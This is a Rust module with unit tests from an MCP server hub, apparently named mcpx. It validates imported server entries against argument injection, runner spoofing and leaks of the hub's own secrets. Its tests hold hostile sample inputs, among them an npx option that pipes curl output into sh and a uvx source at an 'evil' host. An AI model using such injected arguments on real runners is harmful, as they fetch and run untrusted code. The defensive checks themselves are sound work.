//! The rules a server entry from someone else's file must pass, shared by
//! `mcpx add --from` (an MCP Registry `server.json`), `mcpx import` (other
//! clients' configs) and `serve --check`, as pure functions:
//!
//! - values copied from a file are literal: [`literal`] writes `${` as the
//!   config's `$${`, so a package author's `${MCPX_TOKEN}` stays text;
//! - a package runs with a known [`Runner`] in its fixed argument shape,
//!   never with `runtimeHint` as the command or the author's runner options;
//! - no identifier is option-like ([`option_like`]): `npx --call=…`,
//!   `uvx --from=git+…` (what follows the package goes to the package);
//! - a server entry refers to none of mcpx's own secrets ([`OwnSecrets`]):
//!   every `MCPX_*` and the variables of the config's `auth` and other
//!   top-level keys, which the environment scrub keeps from children;
//! - a local server's command exists ([`command_fault`]);
//! - literal secrets an import copies are pointed out ([`looks_secret`]).

use std::fmt;
use std::path::{Path, PathBuf};

use serde_json::Value;

use crate::bytes::jsonpos;

/// `s` as the config reads it literally: each `${` written `$${`.
pub fn literal(s: &str) -> String {
    s.replace("${", "$${")
}

/// What an entry from a file may not be or hold.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Fault {
    /// A `runtimeHint` that is not a runner of its `registryType`.
    UnknownRunner { hint: String, registry: String, accepted: &'static str },
    /// A `registryType` no runner is known for.
    UnknownRegistry(String),
    /// An identifier or argument where an option would be read.
    OptionLike { what: &'static str, value: String },
    /// An environment variable name a runner would misread.
    BadVariableName(String),
    /// A `${VAR}` default with a `}` (it would end the reference early).
    BadDefault { var: String },
    /// A reference to one of mcpx's own secrets.
    OwnSecret { var: String },
}

impl fmt::Display for Fault {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Fault::UnknownRunner { hint, registry, accepted } => {
                write!(f, "runtimeHint {hint:?} is not a runner mcpx accepts for {registry} packages ({accepted})")
            }
            Fault::UnknownRegistry(r) => write!(f, "registryType {r:?} is not supported (npm, pypi, oci and nuget are)"),
            Fault::OptionLike { what, value } => {
                write!(f, "{what} {value:?} starts with `-`: the runner would read it as one of its options")
            }
            Fault::BadVariableName(n) => write!(f, "{n:?} is not an environment variable name (letters, digits and _)"),
            Fault::BadDefault { var } => write!(f, "the default of {var} holds a `}}`, which the config cannot write in a ${{{var}:-default}}"),
            Fault::OwnSecret { var } => write!(
                f,
                "refers to ${{{var}}}, a secret of mcpx itself (handed to this server it leaves the hub); \
                 give the server a token of its own"
            ),
        }
    }
}

/// A program that runs a package from a registry.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Runner {
    Npx,
    Uvx,
    Pipx,
    Docker,
    Podman,
    Dnx,
}

/// The runners of each `registryType`, the first the default.
const RUNNERS: &[(&str, &[Runner], &str)] = &[
    ("npm", &[Runner::Npx], "npx"),
    ("pypi", &[Runner::Uvx, Runner::Pipx], "uvx or pipx"),
    ("oci", &[Runner::Docker, Runner::Podman], "docker or podman"),
    ("nuget", &[Runner::Dnx], "dnx"),
];

impl Runner {
    pub fn program(self) -> &'static str {
        match self {
            Runner::Npx => "npx",
            Runner::Uvx => "uvx",
            Runner::Pipx => "pipx",
            Runner::Docker => "docker",
            Runner::Podman => "podman",
            Runner::Dnx => "dnx",
        }
    }

    /// The runner of a package of `registry` type, `hint` its `runtimeHint`.
    pub fn for_package(registry: &str, hint: Option<&str>) -> Result<Runner, Fault> {
        let (_, runners, accepted) =
            RUNNERS.iter().find(|(r, _, _)| *r == registry).ok_or_else(|| Fault::UnknownRegistry(registry.to_string()))?;
        match hint {
            None => Ok(runners[0]),
            Some(h) => runners.iter().copied().find(|r| r.program() == h).ok_or_else(|| Fault::UnknownRunner {
                hint: h.to_string(),
                registry: registry.to_string(),
                accepted,
            }),
        }
    }

    /// The runner a command is, by its file name.
    fn of_command(command: &str) -> Option<Runner> {
        let name = Path::new(command).file_name()?.to_str()?;
        RUNNERS.iter().flat_map(|(_, rs, _)| rs.iter().copied()).find(|r| r.program() == name)
    }

    /// The fixed argument list that runs package `id` (at `version`), with
    /// the environment variables `env` passed in (a container needs them
    /// named) and `package_args` after the package, where every runner hands
    /// them to the package, not to itself. The caller has refused an
    /// option-like `id`.
    pub fn argv(self, id: &str, version: Option<&str>, env: &[&str], package_args: Vec<String>) -> Vec<String> {
        let own = |v: &[&str]| v.iter().map(|s| s.to_string()).collect::<Vec<String>>();
        let mut out = match self {
            // -y: install without asking (there is no one to ask).
            Runner::Npx => own(&["-y"]),
            Runner::Uvx | Runner::Dnx => Vec::new(),
            Runner::Pipx => own(&["run"]),
            Runner::Docker | Runner::Podman => {
                let mut v = own(&["run", "-i", "--rm"]);
                for name in env {
                    v.extend(["-e".to_string(), name.to_string()]);
                }
                v
            }
        };
        out.push(match (self, version) {
            (Runner::Npx | Runner::Dnx, Some(v)) => format!("{id}@{v}"),
            (Runner::Uvx | Runner::Pipx, Some(v)) => format!("{id}=={v}"),
            (Runner::Docker | Runner::Podman, Some(v)) if !image_tagged(id) => format!("{id}:{v}"),
            _ => id.to_string(),
        });
        if self == Runner::Dnx {
            // dnx reads options after the package too: the package's own after `--`.
            out.push("--yes".into());
            if !package_args.is_empty() {
                out.push("--".into());
            }
        }
        out.extend(package_args);
        out
    }

    /// Where the package is in `args` of a command running this runner, for
    /// the shapes [`Runner::argv`] writes; `None` when the shape is another
    /// (a container's options before the image are the operator's).
    fn package_at(self, args: &[String]) -> Option<usize> {
        match self {
            Runner::Npx => args.iter().position(|a| a != "-y" && a != "--yes"),
            Runner::Uvx | Runner::Dnx => (!args.is_empty()).then_some(0),
            Runner::Pipx => (args.first().map(String::as_str) == Some("run") && args.len() > 1).then_some(1),
            Runner::Docker | Runner::Podman => None,
        }
    }
}

/// Whether an image reference names its tag or digest already.
fn image_tagged(id: &str) -> bool {
    id.contains('@') || id.rsplit('/').next().is_some_and(|last| last.contains(':'))
}

/// `value` refused when it would be read as an option.
pub fn option_like(what: &'static str, value: &str) -> Result<(), Fault> {
    match value.starts_with('-') {
        true => Err(Fault::OptionLike { what, value: value.to_string() }),
        false => Ok(()),
    }
}

/// An environment variable name as the config, a shell and `docker -e` read it.
pub fn variable_name(name: &str) -> Result<(), Fault> {
    let ok = name.chars().next().is_some_and(|c| c.is_ascii_alphabetic() || c == '_')
        && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_');
    ok.then_some(()).ok_or_else(|| Fault::BadVariableName(name.to_string()))
}

/// `${var:-default}`, or the fault when `default` cannot be written there.
pub fn with_default(var: &str, default: &str) -> Result<String, Fault> {
    match default.contains('}') {
        true => Err(Fault::BadDefault { var: var.to_string() }),
        false => Ok(format!("${{{var}:-{default}}}")),
    }
}

/// A local entry's package, when its command is a runner in the shape
/// `mcpx add` writes, refused when it is option-like.
pub fn runner_package(command: &str, args: &[String]) -> Result<(), (usize, Fault)> {
    let Some(runner) = Runner::of_command(command) else { return Ok(()) };
    match runner.package_at(args) {
        Some(i) => option_like("package", &args[i]).map_err(|f| (i, f)),
        None => Ok(()),
    }
}

/// Why `serve --check` would refuse server entry `entry` (at `at`) itself:
/// a reference to one of `own`, a runner with an option for its package.
pub fn entry_fault(own: &OwnSecrets, at: &jsonpos::Path, entry: &Value) -> Option<String> {
    if let Some((p, fault)) = own.refs_in(at, entry).into_iter().next() {
        return Some(format!("{p}: {fault}"));
    }
    let command = entry.get("command").and_then(Value::as_str)?;
    let args: Vec<String> = entry.get("args").and_then(Value::as_array)?.iter().filter_map(Value::as_str).map(String::from).collect();
    runner_package(command, &args).err().map(|(i, fault)| format!("{}: {fault}", at.key("args").idx(i)))
}

/// The variables no server entry may refer to: mcpx's own.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct OwnSecrets(Vec<String>);

impl OwnSecrets {
    /// Those of the config `root`: the variables of every top-level key but
    /// `mcpServers` (`auth`'s bearer and principals' tokens, `state`, ...).
    pub fn of(root: &Value) -> OwnSecrets {
        let mut vars = Vec::new();
        if let Some(top) = root.as_object() {
            for (k, v) in top.iter().filter(|(k, _)| *k != "mcpServers") {
                strings(&jsonpos::Path::root().key(k), v, &mut |_, s| vars.extend(crate::process::childenv::referenced_vars(s)));
            }
        }
        vars.sort();
        vars.dedup();
        OwnSecrets(vars)
    }

    pub fn contains(&self, var: &str) -> bool {
        var.starts_with("MCPX_") || self.0.iter().any(|v| v == var)
    }

    /// Where server entry `entry` (at `at`) refers to one of them.
    pub fn refs_in(&self, at: &jsonpos::Path, entry: &Value) -> Vec<(jsonpos::Path, Fault)> {
        let mut out = Vec::new();
        strings(at, entry, &mut |p, s| {
            for var in crate::process::childenv::referenced_vars(s) {
                if self.contains(&var) {
                    out.push((p.clone(), Fault::OwnSecret { var }));
                }
            }
        });
        out
    }
}

/// Every string in `v` (keys are names, not values), with where it is.
pub fn strings(at: &jsonpos::Path, v: &Value, f: &mut dyn FnMut(&jsonpos::Path, &str)) {
    match v {
        Value::String(s) => f(at, s),
        Value::Array(a) => a.iter().enumerate().for_each(|(i, x)| strings(&at.idx(i), x, f)),
        Value::Object(o) => o.iter().for_each(|(k, x)| strings(&at.key(k), x, f)),
        _ => {}
    }
}

/// Why a local server's command will not run.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum CommandFault {
    /// An absolute path with no program there: an error.
    Missing(PathBuf),
    /// A name not found in the `PATH` of the check (the one `serve` runs
    /// with may differ, so a warning).
    NotInPath(String),
}

impl fmt::Display for CommandFault {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            CommandFault::Missing(p) => write!(f, "command {} does not exist or is not executable", p.display()),
            CommandFault::NotInPath(c) => write!(f, "command '{c}' not found in PATH (install it, or give its full path)"),
        }
    }
}

/// Whether `command` can be found: an absolute path must be a program; a
/// name (no `/`) must be in `path` (a `PATH` value); a relative path is
/// taken from `cwd`. `runnable` says whether a file is an executable one.
pub fn command_fault(command: &str, path: &str, cwd: &Path, runnable: &dyn Fn(&Path) -> bool) -> Option<CommandFault> {
    let p = Path::new(command);
    if p.is_absolute() {
        return (!runnable(p)).then(|| CommandFault::Missing(p.to_path_buf()));
    }
    let found = match command.contains('/') {
        true => runnable(&cwd.join(p)),
        false => path.split(':').filter(|d| !d.is_empty()).any(|d| runnable(&Path::new(d).join(p))),
    };
    (!found).then(|| CommandFault::NotInPath(command.to_string()))
}

/// Whether an environment variable or header value copied as it is looks
/// like a secret: its name says so (`*TOKEN*`, `*KEY*`, `*SECRET*`,
/// `*PASSWORD*`, `Authorization`), or it is a long random-looking string.
/// A value that is a `${VAR}` reference is none.
pub fn looks_secret(name: &str, value: &str) -> bool {
    if value.trim().is_empty() || !crate::process::childenv::referenced_vars(value).is_empty() {
        return false;
    }
    let upper = name.to_ascii_uppercase();
    let named = ["TOKEN", "KEY", "SECRET", "PASSWORD", "PASSWD", "AUTHORIZATION", "CREDENTIAL"].iter().any(|w| upper.contains(w));
    named || random_looking(value)
}

/// At least 20 characters without blanks, not a path or URL, of two or
/// more kinds (lower, upper, digits), spread over many distinct characters.
fn random_looking(v: &str) -> bool {
    if v.len() < 20 || v.contains(char::is_whitespace) || v.starts_with('/') || v.contains("://") {
        return false;
    }
    let kinds = [v.chars().any(|c| c.is_ascii_lowercase()), v.chars().any(|c| c.is_ascii_uppercase()), v.chars().any(|c| c.is_ascii_digit())];
    let mut distinct: Vec<char> = v.chars().collect();
    distinct.sort_unstable();
    distinct.dedup();
    kinds.iter().filter(|k| **k).count() >= 2 && distinct.len() * 3 >= v.chars().count().min(40)
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn literal_values_expand_to_themselves() {
        let env = |_: &str| Some("SECRET".to_string());
        for s in ["${MCPX_TOKEN}", "?k=${GITHUB_TOKEN}", "$${X}", "a$${b", "$", "${", "plain", "$$", "x${Y:-z}w"] {
            assert_eq!(literal(s), s.replace("${", "$${"), "{s}");
            assert_eq!(crate::config::expand(&literal(s), &env).unwrap(), s, "{s}");
            assert!(crate::process::childenv::referenced_vars(&literal(s)).is_empty(), "{s}");
        }
    }

    #[test]
    fn runners_by_registry_and_hint() {
        let cases: &[(&str, Option<&str>, Result<Runner, &str>)] = &[
            ("npm", None, Ok(Runner::Npx)),
            ("npm", Some("npx"), Ok(Runner::Npx)),
            ("npm", Some("sh"), Err("runtimeHint \"sh\" is not a runner mcpx accepts for npm packages (npx)")),
            ("npm", Some("bunx"), Err("runtimeHint \"bunx\" is not a runner mcpx accepts for npm packages (npx)")),
            ("pypi", None, Ok(Runner::Uvx)),
            ("pypi", Some("pipx"), Ok(Runner::Pipx)),
            ("pypi", Some("python"), Err("runtimeHint \"python\" is not a runner mcpx accepts for pypi packages (uvx or pipx)")),
            ("oci", Some("podman"), Ok(Runner::Podman)),
            ("oci", Some("/usr/bin/docker"), Err("runtimeHint \"/usr/bin/docker\" is not a runner mcpx accepts for oci packages (docker or podman)")),
            ("nuget", None, Ok(Runner::Dnx)),
            ("cargo", None, Err("registryType \"cargo\" is not supported (npm, pypi, oci and nuget are)")),
        ];
        for (registry, hint, want) in cases {
            let got = Runner::for_package(registry, *hint).map_err(|f| f.to_string());
            assert_eq!(got, (*want).map_err(String::from), "{registry} {hint:?}");
        }
    }

    #[test]
    fn fixed_shapes() {
        let args = || vec!["--units".to_string(), "metric".to_string()];
        type Case<'a> = (Runner, &'a str, Option<&'a str>, &'a [&'a str], &'a [&'a str]);
        let cases: &[Case] = &[
            (Runner::Npx, "@a/b", Some("1.0.0"), &[], &["-y", "@a/b@1.0.0", "--units", "metric"]),
            (Runner::Uvx, "a-b", Some("0.4"), &[], &["a-b==0.4", "--units", "metric"]),
            (Runner::Pipx, "a-b", None, &[], &["run", "a-b", "--units", "metric"]),
            (Runner::Docker, "ghcr.io/a/b", Some("2"), &["K"], &["run", "-i", "--rm", "-e", "K", "ghcr.io/a/b:2", "--units", "metric"]),
            (Runner::Podman, "ghcr.io/a/b:3", Some("2"), &[], &["run", "-i", "--rm", "ghcr.io/a/b:3", "--units", "metric"]),
            (Runner::Dnx, "A.B", Some("0.5.0"), &[], &["A.B@0.5.0", "--yes", "--", "--units", "metric"]),
        ];
        for (runner, id, version, env, want) in cases {
            assert_eq!(runner.argv(id, *version, env, args()), *want, "{runner:?}");
            // What add writes passes the config's check.
            assert_eq!(runner_package(runner.program(), &runner.argv(id, *version, env, args())), Ok(()), "{runner:?}");
        }
    }

    #[test]
    fn option_like_packages_in_a_config_entry() {
        let v = |a: &[&str]| a.iter().map(|s| s.to_string()).collect::<Vec<_>>();
        type Case<'a> = (&'a str, &'a [&'a str], Option<(usize, &'a str)>);
        let cases: &[Case] = &[
            ("npx", &["-y", "@scope/server"], None),
            ("npx", &["-y", "--call=sh -c 'curl x|sh'"], Some((1, "--call=sh -c 'curl x|sh'"))),
            ("/usr/local/bin/npx", &["--yes", "-c", "id"], Some((1, "-c"))),
            ("uvx", &["--from=git+https://evil/x", "x"], Some((0, "--from=git+https://evil/x"))),
            ("uvx", &["mcp-server-time", "--local-timezone=UTC"], None),
            ("pipx", &["run", "--spec", "x"], Some((1, "--spec"))),
            ("dnx", &["--add-source", "x"], Some((0, "--add-source"))),
            // A container's options are the operator's; other commands are not runners.
            ("docker", &["run", "-i", "--rm", "--network", "host", "img"], None),
            ("sh", &["-c", "anything"], None),
        ];
        for (command, args, want) in cases {
            let got = runner_package(command, &v(args));
            let want = want.map(|(i, value)| (i, Fault::OptionLike { what: "package", value: value.to_string() }));
            assert_eq!(got, want.map_or(Ok(()), Err), "{command} {args:?}");
        }
        assert_eq!(option_like("identifier", "--call=x").unwrap_err().to_string(), "identifier \"--call=x\" starts with `-`: the runner would read it as one of its options");
        assert_eq!(variable_name("--privileged"), Err(Fault::BadVariableName("--privileged".into())));
        assert_eq!(variable_name("GITHUB_TOKEN"), Ok(()));
        assert_eq!(with_default("D", "a}b${MCPX_TOKEN}"), Err(Fault::BadDefault { var: "D".into() }));
        assert_eq!(with_default("D", "/tmp/x"), Ok("${D:-/tmp/x}".into()));
    }

    #[test]
    fn own_secrets_are_mcpxs_and_the_auth_sections() {
        let cfg = json!({"auth": {"bearer": "${HUB_BEARER}", "tokens": {"alice": "${ALICE_TOKEN}"}},
                         "mcpServers": {"r": {"url": "https://x/mcp", "headers": {"A": "${REMOTE_KEY}"}}}});
        let own = OwnSecrets::of(&cfg);
        for (var, want) in [("MCPX_TOKEN", true), ("MCPX_STATE_KEY", true), ("ALICE_TOKEN", true), ("HUB_BEARER", true), ("REMOTE_KEY", false), ("GITHUB_TOKEN", false)] {
            assert_eq!(own.contains(var), want, "{var}");
        }
        let at = jsonpos::Path::root().key("mcpServers").key("s");
        let entry = json!({"command": "x", "args": ["--t=${ALICE_TOKEN}", "$${MCPX_TOKEN}"],
                           "env": {"A": "${MCPX_TOKEN}", "B": "${GITHUB_TOKEN}"}, "url": "https://h/?k=${MCPX_STATE_KEY:-x}"});
        let found: Vec<(String, String)> = own.refs_in(&at, &entry).into_iter().map(|(p, f)| (format!("{p}"), f.to_string())).collect();
        let vars: Vec<&str> = found.iter().map(|(_, f)| f.split('}').next().unwrap().trim_start_matches("refers to ${")).collect();
        assert_eq!(vars, ["ALICE_TOKEN", "MCPX_TOKEN", "MCPX_STATE_KEY"], "{found:?}");
        assert_eq!(found[0].0, "mcpServers.s.args[0]");
        assert_eq!(found[1].0, "mcpServers.s.env.A");
    }

    #[test]
    fn commands_that_cannot_run() {
        let have = |p: &Path| ["/usr/bin/npx", "/opt/srv/run", "/home/u/proj/bin/srv"].contains(&p.to_str().unwrap());
        let cwd = Path::new("/home/u/proj");
        let cases: &[(&str, Option<CommandFault>)] = &[
            ("npx", None),
            ("/opt/srv/run", None),
            ("bin/srv", None),
            ("uvx", Some(CommandFault::NotInPath("uvx".into()))),
            ("/opt/srv/gone", Some(CommandFault::Missing("/opt/srv/gone".into()))),
            ("./gone", Some(CommandFault::NotInPath("./gone".into()))),
        ];
        for (command, want) in cases {
            assert_eq!(command_fault(command, "/bin::/usr/bin", cwd, &have), *want, "{command}");
        }
        assert_eq!(CommandFault::NotInPath("uvx".into()).to_string(), "command 'uvx' not found in PATH (install it, or give its full path)");
    }

    #[test]
    fn secrets_by_name_or_by_look() {
        let cases = [
            ("GITHUB_TOKEN", "ghp_abc", true),
            ("api_key", "x", true),
            ("DB_PASSWORD", "hunter2", true),
            ("Authorization", "Bearer abc", true),
            ("GITHUB_TOKEN", "${GITHUB_TOKEN}", false),
            ("GITHUB_TOKEN", "", false),
            ("X_VALUE", "sk-proj-4fQ9zR2mT7wX1bN8cV5kL3hJ", true),
            ("X_VALUE", "8f14e45fceea167a5a36dedd4bea2543", true),
            ("LOG_LEVEL", "debug", false),
            ("ROOT", "/home/user/Documents/projects/x", false),
            ("ENDPOINT", "https://api.example.com/v1/things", false),
            ("GREETING", "hello world from the other side", false),
            ("MODE", "aaaaaaaaaaaaaaaaaaaaaaaa1", false),
        ];
        for (name, value, want) in cases {
            assert_eq!(looks_secret(name, value), want, "{name}={value}");
        }
    }
}
